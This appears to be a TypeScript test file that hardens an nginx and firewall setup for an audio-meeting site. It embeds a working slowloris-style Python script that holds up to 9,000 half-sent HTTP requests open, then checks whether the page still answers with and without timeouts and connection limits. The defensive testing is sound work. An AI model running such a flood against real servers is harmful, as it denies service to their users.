import { join } from "node:path";
import { stageNginx, type Texts } from "./checkers";
import { CROWD, played, uncounted } from "./crowd";
import { useDaemons } from "./daemons";
import { content, PLAN } from "./files";
import { testWith } from "./programs";

const needs = [...CROWD, ...useDaemons("nginx", "openssl")];

const NGINX = [
  ...["nginx.conf", "sites-enabled/default", "sites-enabled/audio-meet"],
  ...["snippets/audio-meet-headers.conf", "snippets/audio-meet-proxy.conf"],
].map((name) => `/etc/nginx/${name}`);
const site: Texts = Object.fromEntries(NGINX.map((path) => [path, content(path)]));
const rules = content("/etc/audio-meet/nftables/host.nft");

/** The same without what bounds half a request, and with as many connections as there were for 500 people before that. */
const unbounded: Texts = Object.fromEntries(
  Object.entries(site).map(([path, text]) => [
    path,
    text
      .replace(/^ *(client_header_timeout|client_body_timeout|send_timeout|keepalive_timeout) .*$/gm, "")
      .replace(/worker_connections \d+/, "worker_connections 4096"),
  ]),
);

/**
 * One address sends 9,000 halves of a request to port 80 and does so again as they end; for so many seconds another one asks for the page
 * each quarter of a second, and waits two seconds for its answer.
 */
const ATTACK = `
import selectors
def attack():
    half = b"GET / HTTP/1.1\\r\\nHost: meet.example.org\\r\\n"
    while True:
        links, waiting, end = [], selectors.DefaultSelector(), time.monotonic() + 4
        while time.monotonic() < end:
            for n in range(20 if len(links) < 9000 else 0):
                link = socket.socket(); link.setblocking(False); link.bind(("10.20.0.9", 0))
                link.connect_ex(("10.20.0.2", 80)); links.append(link); waiting.register(link, selectors.EVENT_WRITE)
            # nginx may close again what has sent nothing yet: each half follows at once.
            for key, _ in waiting.select(0.0 if len(links) < 9000 else 0.1):
                waiting.unregister(key.fileobj)
                try: key.fileobj.send(half)
                except OSError: pass
        open(sys.argv[1] + "/there", "w").write(str(sum(alive(link) for link in links)))
        time.sleep(12)
        for link in links: link.close()

def alive(link):
    try: return link.recv(1) != b""
    except BlockingIOError:
        try: return bool(link.getpeername())
        except OSError: return False
    except OSError: return False

def page():
    context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
    begun = time.monotonic()
    try:
        with socket.create_connection(("10.20.0.2", 443), 2, ("10.20.0.3", 0)) as link:
            with context.wrap_socket(link, server_hostname="meet.example.org") as secure:
                secure.settimeout(2)
                secure.sendall(b"GET /config.js HTTP/1.1\\r\\nHost: meet.example.org\\r\\nConnection: close\\r\\n\\r\\n")
                answered = secure.recv(12) == b"HTTP/1.1 200"
    except OSError: answered = False
    return answered, time.monotonic() - begun

if sys.argv[2:] == ["attack"]: attack()
import subprocess
before = page()
attacker = subprocess.Popen([sys.executable, sys.argv[0], sys.argv[1], "attack"])
time.sleep(5)
answers, end = [], time.monotonic() + SECONDS
while time.monotonic() < end:
    answers.append(page()); time.sleep(0.25)
attacker.kill(); attacker.wait()
print(json.dumps({"before": before[0], "there": int(open(sys.argv[1] + "/there").read()),
    "asked": len(answers), "answered": sum(good for good, _ in answers), "longest": max(wait for _, wait in answers)}))`;

interface Outcome {
  before: boolean;
  /** Halves of requests that nginx held. */
  there: number;
  asked: number;
  answered: number;
  /** Seconds. */
  longest: number;
}

function attacked(files: Texts, firewall: string, seconds: number): Outcome {
  return played<Outcome>({
    rules: firewall,
    serve: `nginx -c "$1/etc/nginx/nginx.conf" -g "daemon off;" 2>"$1/nginx.log" & servers=$!
      until ss -ltn | grep -q :443; do sleep 0.05; done`,
    clients: ATTACK.replaceAll("SECONDS", String(seconds)),
    files: (folder) => {
      const config = content("/etc/jitsi/meet/meet.example.org-config.js");
      const page = { [join("/etc/nginx", "config.js")]: config };
      const here = Object.entries({ ...files, ...page }).map(([path, text]) => [
        path,
        text.replaceAll("/etc/jitsi/meet/meet.example.org-config.js", "/etc/nginx/config.js"),
      ]);
      stageNginx(folder, Object.fromEntries(here) as Texts);
    },
  });
}

testWith(needs, "9,000 half-sent requests from one address keep nobody else from the page", () => {
  const { before, there, asked, answered, longest } = attacked(site, rules, 15);
  console.info(`half-sent requests, bounded: ${JSON.stringify({ there, asked, answered, longest })}`);
  expect([before, answered]).toEqual([true, asked]);
  expect(there).toBeLessThanOrEqual(500);
  expect(longest).toBeLessThan(1);
});

testWith(needs, "without the bounds they shut it for everybody", () => {
  const { before, there, answered, asked } = attacked(unbounded, uncounted(rules), 8);
  console.info(`half-sent requests, unbounded: ${JSON.stringify({ there, asked, answered })}`);
  expect(before).toBe(true);
  expect(there).toBeGreaterThan(4000);
  expect(answered).toBeLessThan(asked / 2);
});

testWith(needs, "where only the firewall's counts are missing, it is open again within seconds", () => {
  const { answered, asked } = attacked(
    { ...site, "/etc/nginx/nginx.conf": unbounded["/etc/nginx/nginx.conf"] ?? "" },
    uncounted(rules),
    13,
  );
  console.info(`half-sent requests, nginx alone: ${JSON.stringify({ asked, answered })}`);
  expect(answered).toBeGreaterThan(0);
});
